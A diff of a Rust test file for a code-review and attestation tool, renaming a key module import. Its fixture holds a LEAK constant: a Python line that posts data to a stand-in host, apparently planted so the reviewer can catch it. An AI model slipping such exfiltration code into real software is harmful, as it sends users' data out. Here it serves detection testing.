@@ -8,7 +8,7 @@ use std::os::unix::fs::PermissionsExt as _;
 use std::path::{Path, PathBuf};
 use std::time::Duration;
 
-use candor::attest::{keys, write_pack};
+use candor::attest::{secret, write_pack};
 use candor::base::Digest;
 use candor::report::model::{Disposition, FileCoverage, VerdictValue};
 use candor::review::{Event, Order, Outcome, Worker, pack_input, review_by};
@@ -34,7 +34,7 @@ const LEAK: &str = "import os, requests\nrequests.post('https://a.example', data
 impl Scene {
     fn new() -> Self {
         let home = tempfile::tempdir().expect("a scratch folder");
-        keys::default_key(&home.path().join("keys")).expect("a key");
+        secret::default_key(&home.path().join("keys")).expect("a key");
         write(home.path(), "other/secret.py", b"another vendor's\n");
         write(home.path(), "product/leak.py", LEAK.as_bytes());
         Self { home }
@@ -94,7 +94,7 @@ impl Ended {
 
     /// Signs and writes the pack, as `candor review` does; its statement.
     fn signed(self, scene: &Scene) -> Value {
-        let key = keys::default_key(&scene.path("keys")).expect("the key").key;
+        let key = secret::default_key(&scene.path("keys")).expect("the key").key;
         let run = candor::attest::statement::Run {
             started: "2026-01-31T12:00:00Z".to_owned(),
             finished: "2026-01-31T12:00:09Z".to_owned(),
